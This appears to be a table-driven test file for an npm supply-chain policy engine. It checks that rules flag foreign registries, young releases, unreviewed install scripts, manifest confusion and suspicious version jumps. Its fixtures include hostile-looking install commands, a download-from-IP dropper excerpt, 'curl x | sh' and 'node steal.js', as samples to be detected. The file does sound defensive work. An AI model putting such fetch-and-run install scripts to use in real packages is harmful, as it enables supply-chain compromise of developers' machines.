// Table tests per rule: a fake package, its facts and a policy → the codes found.
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import type { PolicyDocument } from '../../lib/policy/schema.ts'
import { RULES } from '../../lib/rules/index.ts'
import type { Advisory, DeclaredManifest, PackageFacts, PackageView, RuleContext, TarballManifest, VersionFacts } from '../../lib/model/rule.js'
import { judge, prepareRules } from '../../lib/engine/judge.ts'
import { ruleContext } from '../helpers/rule-context.ts'

// What the rules judge with (the typosquat index), loaded as the engine loads it.
await prepareRules(RULES)

const NOW = new Date('2026-11-27T12:00:00Z')
const REGISTRY = 'https://registry.npmjs.org/'
const DAY = 86_400_000

function view(overrides: Partial<PackageView> = {}): PackageView {
  const name = overrides.name ?? 'left-pad'
  const version = overrides.version ?? '1.3.0'
  return {
    name,
    version,
    location: `node_modules/${name}`,
    resolved: `${REGISTRY}${name}/-/${name.split('/').pop()}-${version}.tgz`,
    integrity: 'sha512-x',
    source: 'registry',
    isDirect: true,
    path: ['app', name],
    spec: '^1.0.0',
    isFromLockfile: false,
    isDev: false,
    isOptional: false,
    scripts: {},
    hasInstallScript: false,
    hasBindingGyp: false,
    requestedRanges: ['^1.0.0'],
    projectRange: null,
    deprecated: null,
    ...overrides,
  }
}

function versionFacts(version: string, ageDays: number | null, extra: Partial<VersionFacts> = {}): VersionFacts {
  return {
    version,
    publishedAt: ageDays === null ? null : new Date(NOW.getTime() - ageDays * DAY),
    publisher: 'alice',
    scripts: {},
    hasProvenance: false,
    hasTrustedPublisher: false,
    deprecated: null,
    ...extra,
  }
}

function facts(versions: VersionFacts[], current: string): PackageFacts {
  return { status: 'known', version: versions.find((v) => v.version === current), versions, distTags: {} }
}

/** An established release line: `count` releases 1.0.0…, the first `spanDays` ago, one publisher. */
function lineOf(_name: string, count: number, spanDays: number, publisher: string | null, hasProvenance = false): VersionFacts[] {
  return Array.from({ length: count }, (_, index) =>
    versionFacts(`${index + 1}.0.0`, spanDays - (index * (spanDays - 20)) / count, { publisher, hasProvenance }),
  )
}

const OLD = facts([versionFacts('1.0.0', 400), versionFacts('1.3.0', 100)], '1.3.0')

/** What the tarball's package.json says; by default exactly what `declared` (the resolved manifest) says. */
function tarballManifest(extra: Partial<TarballManifest> = {}): TarballManifest {
  return { name: 'left-pad', version: '1.3.0', scripts: {}, dependencies: {}, optionalDependencies: {}, peerDependencies: {}, bin: {}, gypfile: null, hasBindingGyp: false, ...extra }
}

function declared(extra: Partial<DeclaredManifest> = {}): DeclaredManifest {
  return { scripts: {}, hasScriptList: false, dependencies: {}, optionalDependencies: {}, peerDependencies: {}, bin: {}, ...extra }
}

/** OLD facts (or these) with a tarball read. */
function withTarball(manifest: Partial<TarballManifest> = {}, resolvedWith: Partial<DeclaredManifest> = {}, base: PackageFacts = OLD): PackageFacts {
  return { ...base, tarball: { state: 'read', manifest: tarballManifest(manifest), declared: declared(resolvedWith) } }
}

const SCRIPTED_OLD = facts([versionFacts('1.3.0', 100, { scripts: { postinstall: 'node x.js' } })], '1.3.0')

function contextFor(policy: PolicyDocument = {}, extra: Partial<RuleContext> = {}): RuleContext {
  return ruleContext({ document: policy, registry: REGISTRY, now: NOW }, extra)
}

function codes(pkg: PackageView, pkgFacts: PackageFacts, policy: PolicyDocument = {}, extra: Partial<RuleContext> = {}) {
  const context = contextFor(policy, extra)
  const judgement = judge([pkg], new Map([[pkg.location, pkgFacts]]), RULES, context)
  return judgement.findings.map((finding) => `${finding.severity}:${finding.code}`)
}

const DROPPER: NonNullable<TarballManifest['scriptContent']> = {
  analysis: 1,
  shapes: [{ shape: 'download-and-run', file: 'preinstall.sh', line: 7, excerpt: 'curl http://198.51.100.28/download/jsextension -o jsextension' }],
  unread: [],
  read: ['x.js', 'preinstall.sh'],
}

/** fresh-pkg 1.1.0 (1 day old) replacing 1.0.0, with the advisories given about 1.0.0 and 1.1.0. */
function securityFixCases(): Array<[string, PackageView, PackageFacts, PolicyDocument, string[]]> {
  const young = (replaced: Advisory[], current: Advisory[] = []): PackageFacts => ({
    ...facts([versionFacts('1.0.0', 400), versionFacts('1.1.0', 1)], '1.1.0'),
    advisories: current,
    replacedAdvisories: replaced,
  })
  const bulk = (range: string, id = '1100123'): Advisory => ({ id, source: 'registry-advisories', summary: 'Prototype pollution', isMalware: false, severity: 'high', vulnerableVersions: range })
  const osv = (fixed: string[]): Advisory => ({ id: 'GHSA-aaaa-bbbb-cccc', source: 'osv-api', summary: 'Prototype pollution', isMalware: false, fixedIn: fixed })
  const replacing = view({ version: '1.1.0', replacesVersion: '1.0.0' })
  const ON = { minimumReleaseAge: { allowSecurityFixes: true } }
  return [
    ['a fix the registry range names (<1.1.0)', replacing, young([bulk('<1.1.0')]), ON, ['warn:minimum-release-age/security-fix']],
    ['a fix one set of a range names (>=2.0.0 <2.3.1 || <1.1.0)', replacing, young([bulk('>=2.0.0 <2.3.1 || <1.1.0')]), ON, ['warn:minimum-release-age/security-fix']],
    ['a fix OSV names (fixed: 1.1.0)', replacing, young([osv(['1.1.0'])]), ON, ['warn:minimum-release-age/security-fix']],
    ['the option off (default)', replacing, young([bulk('<1.1.0')]), {}, ['block:minimum-release-age/too-young']],
    ['a range that names another fix (<1.0.5)', replacing, young([bulk('<1.0.5')]), ON, ['block:minimum-release-age/too-young']],
    ['a range that still covers the new version (<2.0.0)', replacing, young([bulk('<2.0.0')]), ON, ['block:minimum-release-age/too-young']],
    ['OSV names another fix', replacing, young([osv(['1.0.5'])]), ON, ['block:minimum-release-age/too-young']],
    ['the new version is reported by the same advisory', replacing, young([bulk('<1.1.0')], [bulk('<1.1.0')]), ON, ['block:minimum-release-age/too-young']],
    ['no version replaced', view({ version: '1.1.0' }), young([bulk('<1.1.0')]), ON, ['block:minimum-release-age/too-young']],
    ['a downgrade is no fix', view({ version: '1.1.0', replacesVersion: '1.2.0' }), young([bulk('<1.1.0')]), ON, ['block:minimum-release-age/too-young']],
    ['the young fix is still judged by every other rule', view({ version: '1.1.0', replacesVersion: '1.0.0', scripts: { postinstall: 'node x.js' } }), young([bulk('<1.1.0')]), ON, ['warn:install-scripts/unreviewed', 'warn:minimum-release-age/security-fix']],
  ]
}

const CASES: Array<[string, PackageView, PackageFacts, PolicyDocument, string[], Partial<RuleContext>?]> = [
  ['a mature registry package is clean', view(), OLD, {}, []],
  // registries
  ['another registry', view({ resolved: 'https://evil.example/left-pad/-/left-pad-1.3.0.tgz' }), OLD, {}, ['block:registries/not-allowed-registry']],
  ['a lockfile pointing elsewhere', view({ resolved: 'https://evil.example/left-pad/-/left-pad-1.3.0.tgz', isFromLockfile: true }), OLD, {}, ['block:registries/lockfile-resolved-elsewhere']],
  ['plain http off loopback', view({ resolved: 'http://npm.acme.example/left-pad/-/left-pad-1.3.0.tgz' }), OLD, { registries: { allowed: ['http://npm.acme.example/'] } }, ['block:registries/insecure-registry']],
  ['plain http on loopback', view({ resolved: 'http://127.0.0.1:4873/left-pad/-/left-pad-1.3.0.tgz' }), OLD, { registries: { allowed: ['http://127.0.0.1:4873/'] } }, []],
  ['a pinned scope from elsewhere', view({ name: '@acme/ui' }), facts([versionFacts('1.3.0', 100)], '1.3.0'), { registries: { allowed: [REGISTRY, 'https://npm.acme.example/'], scopes: { '@acme': 'https://npm.acme.example/' } } }, ['block:registries/scope-not-pinned']],
  ['a pinned scope from its registry', view({ name: '@acme/ui', resolved: 'https://npm.acme.example/@acme/ui/-/ui-1.3.0.tgz' }), facts([versionFacts('1.3.0', 100)], '1.3.0'), { registries: { allowed: [REGISTRY, 'https://npm.acme.example/'], scopes: { '@acme': 'https://npm.acme.example/' } } }, []],
  ['a private name from the public registry', view({ name: 'acme-utils' }), facts([versionFacts('9.9.9', 100)], '9.9.9'), { registries: { private: { 'acme-*': 'https://npm.acme.example/' } } }, ['block:registries/private-name-elsewhere']],
  ['lockfile without resolved uses the configured registry', view({ resolved: null, isFromLockfile: true }), OLD, {}, []],
  // packages
  ['a denied name', view({ name: 'event-stream', version: '3.3.6' }), facts([versionFacts('3.3.6', 2000)], '3.3.6'), { packages: { deny: ['event-stream@3.3.6'] } }, ['block:packages/denied']],
  ['a version outside the denied range', view({ name: 'event-stream', version: '3.3.5' }), facts([versionFacts('3.3.5', 2000)], '3.3.5'), { packages: { deny: ['event-stream@3.3.6'] } }, []],
  ['a scope glob', view({ name: '@evil/x' }), OLD, { packages: { deny: ['@evil/*'] } }, ['block:packages/denied']],
  ['not on the allow list', view(), OLD, { packages: { allow: ['lodash'] } }, ['block:packages/not-allowed']],
  // minimum release age
  ['a young version', view(), facts([versionFacts('1.0.0', 400), versionFacts('1.3.0', 1)], '1.3.0'), {}, ['block:minimum-release-age/too-young']],
  ['a publish time 30 days in the future', view(), facts([versionFacts('1.0.0', 400), versionFacts('1.3.0', -30)], '1.3.0'), {}, ['block:minimum-release-age/future-publish-time']],
  ['a publish time a minute ahead (clock skew) is only young', view(), facts([versionFacts('1.3.0', -1 / 1440)], '1.3.0'), {}, ['block:minimum-release-age/too-young']],
  ['a young version, warn only', view(), facts([versionFacts('1.3.0', 1)], '1.3.0'), { rules: { 'minimum-release-age': 'warn' } }, ['warn:minimum-release-age/too-young']],
  ['a young version, excluded', view(), facts([versionFacts('1.3.0', 1)], '1.3.0'), { minimumReleaseAge: { exclude: ['left-*'] } }, []],
  ['a young version under a shorter age', view(), facts([versionFacts('1.3.0', 1)], '1.3.0'), { minimumReleaseAge: { age: '12h' } }, []],
  ['no publish time', view(), facts([versionFacts('1.3.0', null)], '1.3.0'), {}, ['block:minimum-release-age/unknown-publish-time']],
  ['no publish time, warn', view(), facts([versionFacts('1.3.0', null)], '1.3.0'), { minimumReleaseAge: { missingTime: 'warn' } }, ['warn:minimum-release-age/unknown-publish-time']],
  // minimumReleaseAge.allowSecurityFixes: the young version an advisory names as the fix of the one it replaces
  ...securityFixCases(),
  // install scripts
  ['an unreviewed postinstall', view({ scripts: { postinstall: 'node x.js' } }), OLD, {}, ['warn:install-scripts/unreviewed']],
  ['a script known only from the packument', view(), facts([versionFacts('1.3.0', 100, { scripts: { preinstall: 'curl x | sh' } })], '1.3.0'), {}, ['warn:install-scripts/unreviewed']],
  ['an implicit node-gyp build', view({ hasBindingGyp: true }), OLD, {}, ['warn:install-scripts/unreviewed']],
  ['a lockfile hasInstallScript flag', view({ hasInstallScript: true }), OLD, {}, ['warn:install-scripts/unreviewed']],
  ['an allowed script', view({ scripts: { install: 'node-gyp rebuild' } }), OLD, { scripts: { allow: { 'left-pad': true } } }, []],
  ['an allowed range that does not cover the version', view({ scripts: { install: 'x' } }), OLD, { scripts: { allow: { 'left-pad@^2': true } } }, ['warn:install-scripts/unreviewed']],
  ['a refused script', view({ scripts: { install: 'x' } }), OLD, { scripts: { allow: { 'left-pad': false } } }, ['warn:install-scripts/refused']],
  ['unreviewed scripts block', view({ scripts: { install: 'x' } }), OLD, { rules: { 'install-scripts': 'block' } }, ['block:install-scripts/unreviewed']],
  ["npm's allowScripts", view({ scripts: { install: 'x' } }), OLD, {}, [], { npmAllowScripts: { 'left-pad': true } }],
  ["npm's allowScripts when the policy ignores it", view({ scripts: { install: 'x' } }), OLD, { scripts: { npmAllowScripts: false } }, ['warn:install-scripts/unreviewed'], { npmAllowScripts: { 'left-pad': true } }],
  ['a test script is no install script', view({ scripts: { test: 'x', prepare: 'y' } }), OLD, {}, []],
  ['prepare of a git dependency', view({ source: 'git', resolved: 'git+ssh://git@github.com/a/b.git#abc', scripts: { prepare: 'tsc' } }), { status: 'not-applicable' }, {}, ['warn:install-scripts/unreviewed']],
  // manifest confusion
  ['a tarball that agrees with the registry', view(), withTarball(), {}, []],
  ['no tarball read (check): nothing to compare', view(), OLD, {}, []],
  ['a postinstall only in the tarball', view(), withTarball({ scripts: { postinstall: 'node evil.js' } }), {}, ['block:manifest-confusion/scripts-differ', 'warn:install-scripts/unreviewed']],
  // install-script content (the tarball's verdict): a dropper shape blocks an unreviewed script, per scripts.content
  ['an unreviewed script whose text shows a dropper shape', view(), withTarball({ scripts: { postinstall: 'node x.js' }, scriptContent: DROPPER }, {}, SCRIPTED_OLD), {}, ['block:install-scripts/dropper']],
  ['a dropper shape, scripts.content warn', view(), withTarball({ scripts: { postinstall: 'node x.js' }, scriptContent: DROPPER }, {}, SCRIPTED_OLD), { scripts: { content: 'warn' } }, ['warn:install-scripts/dropper']],
  ['a dropper shape, scripts.content off: the plain unreviewed warning', view(), withTarball({ scripts: { postinstall: 'node x.js' }, scriptContent: DROPPER }, {}, SCRIPTED_OLD), { scripts: { content: 'off' } }, ['warn:install-scripts/unreviewed']],
  ['a dropper shape in an allowed (reviewed) script', view(), withTarball({ scripts: { postinstall: 'node x.js' }, scriptContent: DROPPER }, {}, SCRIPTED_OLD), { scripts: { allow: { 'left-pad': true } } }, []],
  ['a script with no dropper shape stays a warning', view(), withTarball({ scripts: { postinstall: 'node x.js' }, scriptContent: { ...DROPPER, shapes: [] } }, {}, SCRIPTED_OLD), {}, ['warn:install-scripts/unreviewed']],
  ['a postinstall only in the tarball, rule on warn', view(), withTarball({ scripts: { postinstall: 'node evil.js' } }), { rules: { 'manifest-confusion': 'warn' } }, ['warn:manifest-confusion/scripts-differ', 'warn:install-scripts/unreviewed']],
  ['an allowed package whose tarball runs another postinstall is unreviewed', view(), withTarball({ scripts: { postinstall: 'node evil.js' } }, {}, SCRIPTED_OLD), { scripts: { allow: { 'left-pad': true } }, rules: { 'manifest-confusion': 'off' } }, ['warn:install-scripts/unreviewed']],
  ['an allowed package whose tarball agrees keeps its allowance', view(), withTarball({ scripts: { postinstall: 'node x.js' } }, {}, SCRIPTED_OLD), { scripts: { allow: { 'left-pad': true } } }, []],
  ['the registry shows a script the tarball lacks', view(), withTarball({}, {}, SCRIPTED_OLD), {}, ['block:manifest-confusion/scripts-differ', 'warn:install-scripts/unreviewed']],
  ['a binding.gyp only in the tarball (implicit node-gyp build)', view(), withTarball({ hasBindingGyp: true }), {}, ['block:manifest-confusion/scripts-differ', 'warn:install-scripts/unreviewed']],
  ['a binding.gyp beside a postinstall the registry shows (npm publish leaves the implicit build out)', view(), withTarball({ hasBindingGyp: true, scripts: { postinstall: 'node x.js' } }, {}, SCRIPTED_OLD), {}, ['warn:install-scripts/unreviewed']],
  ['a binding.gyp where the registry flags hasInstallScript', view({ hasInstallScript: true }), withTarball({ hasBindingGyp: true }), {}, ['warn:install-scripts/unreviewed']],
  ['a binding.gyp with gypfile: false builds nothing', view(), withTarball({ hasBindingGyp: true, gypfile: false }), {}, []],
  ['a binding.gyp the registry shows as node-gyp rebuild', view({ hasBindingGyp: true }), withTarball({ hasBindingGyp: true }), {}, ['warn:install-scripts/unreviewed']],
  ['a prepare only in the tarball, where the manifest lists scripts', view(), withTarball({ scripts: { prepare: 'x' } }, { hasScriptList: true }), {}, ['block:manifest-confusion/scripts-differ']],
  ['a prepare only in the tarball, the manifest lists no scripts (abbreviated)', view(), withTarball({ scripts: { prepare: 'x' } }), {}, []],
  ['a test script only in the tarball is no finding', view(), withTarball({ scripts: { test: 'x' } }), {}, []],
  ['a dependency only in the tarball', view(), withTarball({ dependencies: { evil: '^1.0.0' } }), {}, ['block:manifest-confusion/dependencies-differ']],
  ['another range in the tarball', view(), withTarball({ dependencies: { a: '^2.0.0' } }, { dependencies: { a: '^1.0.0' } }), {}, ['block:manifest-confusion/dependencies-differ']],
  ['a peer dependency only in the tarball', view(), withTarball({ peerDependencies: { a: '*' } }), {}, ['block:manifest-confusion/dependencies-differ']],
  ['an optional dependency the registry lists in dependencies (npm dedupes them)', view(), withTarball({ dependencies: { a: '^1.0.0' }, optionalDependencies: { a: '^1.0.0' } }, { optionalDependencies: { a: '^1.0.0' } }), {}, []],
  ['a bin only in the tarball', view(), withTarball({ bin: { tsc: 'evil.js' } }), {}, ['block:manifest-confusion/bin-differs']],
  ['another name in the tarball', view(), withTarball({ name: 'lefft-pad' }), {}, ['block:manifest-confusion/identity-differs']],
  ['another version in the tarball', view(), withTarball({ version: '9.9.9' }), {}, ['block:manifest-confusion/identity-differs']],
  ['the same version written loosely', view(), withTarball({ version: 'v1.3.0' }), {}, []],
  ['an unreadable tarball', view(), { ...OLD, tarball: { state: 'unreadable', reason: 'EINTEGRITY' } }, {}, ['block:manifest-confusion/tarball-unreadable']],
  ['an allowed package with an unreadable tarball runs nothing', view({ scripts: { install: 'x' } }), { ...OLD, tarball: { state: 'unreadable', reason: 'EINTEGRITY' } }, { scripts: { allow: { 'left-pad': true } }, rules: { 'manifest-confusion': 'off' } }, ['warn:install-scripts/unreviewed']],
  // sources
  ['a direct git dependency', view({ source: 'git', resolved: 'git+ssh://git@github.com/a/b.git#abc' }), { status: 'not-applicable' }, {}, []],
  ['a transitive git dependency', view({ source: 'git', isDirect: false, path: ['app', 'a', 'b'], resolved: 'git+ssh://git@github.com/a/b.git#abc' }), { status: 'not-applicable' }, {}, ['block:sources/transitive-source']],
  ['git allowed everywhere', view({ source: 'git', isDirect: false, resolved: 'git+ssh://x' }), { status: 'not-applicable' }, { sources: { git: 'all' } }, []],
  ['remote tarballs refused', view({ source: 'remote', resolved: 'https://example.com/x.tgz' }), { status: 'not-applicable' }, { sources: { remote: 'none' } }, ['block:sources/source-not-allowed']],
  // suspicious-version: the number alone is not the dependency-confusion shape; its history is
  ['a first release at 99', view({ name: 'acme-billing', version: '99.0.0' }), facts([versionFacts('99.0.0', 10)], '99.0.0'), {}, ['block:suspicious-version/version-jump']],
  ['a jump on a young package', view({ name: 'fresh-lib', version: '99.0.0' }), facts([versionFacts('1.0.0', 60), versionFacts('1.1.0', 40), versionFacts('99.0.0', 10)], '99.0.0'), {}, ['block:suspicious-version/version-jump']],
  ['browser-style numbers on an established package, same publisher', view({ name: 'chromium-bidi', version: '157.0.8090-0' }), facts([...lineOf('chromium-bidi', 12, 400, 'bidi-bot'), versionFacts('157.0.8090-0', 10, { publisher: 'bidi-bot' })], '157.0.8090-0'), {}, []],
  ['browser-style numbers, publisher not recorded by the registry', view({ name: 'chromium-bidi', version: '157.0.8090-0' }), facts([...lineOf('chromium-bidi', 12, 400, null), versionFacts('157.0.8090-0', 10, { publisher: null })], '157.0.8090-0'), {}, ['warn:suspicious-version/version-jump-unconfirmed']],
  ['a jump on an established package by a new account', view({ name: 'chromium-bidi', version: '157.0.8090-0' }), facts([...lineOf('chromium-bidi', 12, 400, 'bidi-bot'), versionFacts('157.0.8090-0', 10, { publisher: 'mallory' })], '157.0.8090-0'), {}, ['block:suspicious-version/version-jump', 'warn:publisher-change/new-publisher']],
  ['a jump on an established package that lost provenance', view({ name: 'chromium-bidi', version: '157.0.8090-0' }), facts([...lineOf('chromium-bidi', 12, 400, 'bidi-bot', true), versionFacts('157.0.8090-0', 10, { publisher: 'bidi-bot' })], '157.0.8090-0'), {}, ['block:suspicious-version/version-jump', 'warn:trust-downgrade/lost-signal']],
  ['a jump on a private name with history', view({ name: 'acme-billing', version: '99.0.0' }), facts([...lineOf('acme-billing', 12, 400, 'acme'), versionFacts('99.0.0', 10, { publisher: 'acme' })], '99.0.0'), { registries: { allowed: [REGISTRY, 'https://npm.acme.example/'], private: { 'acme-*': REGISTRY } } }, ['block:suspicious-version/version-jump']],
  // unverifiable
  ['facts could not be learned', view(), { status: 'unverifiable', reason: 'E500' }, {}, ['block:unverifiable/facts-unavailable']],
  ['an optional package npm could not resolve (it skips it)', view({ version: '', isOptional: true }), { status: 'unverifiable', reason: 'E404' }, {}, ['warn:unverifiable/optional-unavailable']],
  ['a resolved optional package whose facts are unknown still blocks', view({ isOptional: true }), { status: 'unverifiable', reason: 'E500' }, {}, ['block:unverifiable/facts-unavailable']],
  ['offline, nothing cached: unverifiable, blamed on no registry', view(), { status: 'unverifiable', reason: 'ENOTCACHED: request to https://registry.example/x failed: cache mode is only-if-cached but could not find x' }, {}, ['block:unverifiable/facts-not-cached']],
  ['facts could not be learned, warn', view(), { status: 'unverifiable', reason: 'E500' }, { rules: { unverifiable: 'warn' } }, ['warn:unverifiable/facts-unavailable']],
]

for (const [name, pkg, pkgFacts, policy, expected, extra] of CASES) {
  test(name, () => assert.equal(codes(pkg, pkgFacts, policy, extra).sort(), [...expected].sort()))
}

test('the too-young hint names the newest mature version in range', () => {
  const pkg = view({ version: '1.3.0', requestedRanges: ['^1.0.0'] })
  const pkgFacts = facts([versionFacts('1.0.0', 400), versionFacts('1.2.0', 30), versionFacts('2.0.0', 20), versionFacts('1.3.0', 1)], '1.3.0')
  const context = contextFor()
  const [finding] = judge([pkg], new Map([[pkg.location, pkgFacts]]), RULES, context).findings
  assert.match(finding.hint!, /left-pad@1\.2\.0 is old enough/)
  assert.equal(finding.path, ['app', 'left-pad'])
})

test('the too-young hint for an exact pin: typed on the command line, install the mature one; declared, change package.json', () => {
  const pkg = view({ version: '1.3.0', isDirect: true, projectRange: '1.3.0' })
  const pkgFacts = facts([versionFacts('1.0.0', 400), versionFacts('1.2.0', 30), versionFacts('1.3.0', 1)], '1.3.0')
  const hintWith = (requestedOnCommandLine: string[]) =>
    judge([pkg], new Map([[pkg.location, pkgFacts]]), RULES, contextFor({}, { requestedOnCommandLine })).findings.find((finding) => finding.code === 'minimum-release-age/too-young')?.hint ?? ''
  assert.match(hintWith(['left-pad@1.3.0']), /left-pad@1\.2\.0 is old enough: install that one instead/)
  assert.match(hintWith([]), /change "left-pad": "1\.3\.0" in package\.json/)
  assert.match(hintWith(['other-pkg']), /in package\.json/)
})

test('credentials in URLs never reach a finding', () => {
  const pkg = view({ resolved: 'https://deploy:s3cret@npm.evil.example/left-pad/-/left-pad-1.3.0.tgz' })
  const context = contextFor()
  const [finding] = judge([pkg], new Map([[pkg.location, OLD]]), RULES, context).findings
  assert.is(finding.code, 'registries/not-allowed-registry')
  assert.not.match(JSON.stringify(finding), /s3cret/)
})

test('exceptions: applied, expired, unused', () => {
  const pkg = view({ version: '1.3.0' })
  const young = facts([versionFacts('1.3.0', 1)], '1.3.0')
  const run = (exceptions: PolicyDocument['exceptions']) =>
    judge([pkg], new Map([[pkg.location, young]]), RULES, contextFor({ exceptions }))
  const waived = run([{ package: 'left-pad@1.3.0', rule: 'minimum-release-age', reason: 'reviewed' }])
  assert.is(waived.isBlocked, false)
  assert.is(waived.waived.length, 1)
  const expired = run([{ package: 'left-pad', rule: 'minimum-release-age', reason: 'reviewed', expires: '2026-11-26' }])
  assert.is(expired.isBlocked, true)
  assert.is(expired.expiredExceptions.length, 1)
  const lastDay = run([{ package: 'left-pad', rule: 'minimum-release-age', reason: 'reviewed', expires: '2026-11-27' }])
  assert.is(lastDay.isBlocked, false)
  const unused = run([{ package: 'left-pad', rule: 'minimum-release-age', reason: 'r' }, { package: 'lodash', rule: 'packages', reason: 'never matched' }])
  assert.equal(unused.unusedExceptions.map((e) => e.package), ['lodash'])
})

test('judging again once tarballs are read: only the rules that read them run again, and the judgement is the full one', () => {
  const context = contextFor({ rules: { 'minimum-release-age': 'block' } })
  const young = view({ name: 'young', version: '2.0.0', location: 'node_modules/young' })
  const confused = view({ location: 'node_modules/left-pad' })
  const scripted = view({ name: 'runs', location: 'node_modules/runs' })
  const packages = [young, confused, scripted]
  const known = new Map<string, PackageFacts>([
    [young.location, facts([versionFacts('1.0.0', 300), versionFacts('2.0.0', 1)], '2.0.0')],
    [confused.location, OLD],
    [scripted.location, SCRIPTED_OLD],
  ])
  const rerun: string[] = []
  const first = judge(packages, known, RULES, context)
  // The tarballs arrive: one runs a script its registry manifest does not show, one carries a dropper.
  known.set(confused.location, withTarball({ scripts: { preinstall: 'node steal.js' } }))
  known.set(scripted.location, withTarball({ name: 'runs', scripts: { postinstall: 'node x.js' }, scriptContent: DROPPER }, { scripts: { postinstall: 'node x.js' }, hasScriptList: true }, SCRIPTED_OLD))
  const again = judge(packages, known, RULES, context, { again: { previous: first, rerun: (rule) => (rule.meta.readsTarballs ? (rerun.push(rule.meta.id), true) : false) } })
  assert.equal(again, judge(packages, known, RULES, context))
  assert.ok(again.findings.some((finding) => finding.code.startsWith('manifest-confusion/')), 'the tarball findings are there')
  assert.ok(again.findings.some((finding) => finding.code.startsWith('minimum-release-age/')), 'the others stand')
  assert.equal(rerun.sort(), ['install-scripts', 'manifest-confusion'])
})

test('a rule not marked readsTarballs finds the same with or without a tarball read', () => {
  const context = contextFor()
  const cases: Array<[PackageView, PackageFacts]> = [
    [view(), OLD],
    [view({ name: 'runs', location: 'node_modules/runs', scripts: { postinstall: 'node x.js' }, hasInstallScript: true }), SCRIPTED_OLD],
  ]
  const disagreeing: Partial<TarballManifest> = {
    name: 'other', version: '9.9.9', scripts: { preinstall: 'curl x | sh', install: 'node-gyp rebuild' }, dependencies: { evil: '1.0.0' },
    bin: { sh: 'x.js' }, gypfile: true, hasBindingGyp: true, scriptContent: DROPPER,
  }
  for (const rule of RULES.filter((candidate) => !candidate.meta.readsTarballs)) {
    for (const [pkg, pkgFacts] of cases) {
      const unread = rule.check(pkg, pkgFacts, context)
      const read = rule.check(pkg, withTarball(disagreeing, {}, pkgFacts), context)
      assert.equal(read, unread, `${rule.meta.id} reads the tarball: mark it readsTarballs`)
      const unreadable = rule.check(pkg, { ...pkgFacts, tarball: { state: 'unreadable', reason: 'EINTEGRITY' } }, context)
      assert.equal(unreadable, unread, `${rule.meta.id} reads the tarball: mark it readsTarballs`)
    }
  }
})

test.run()
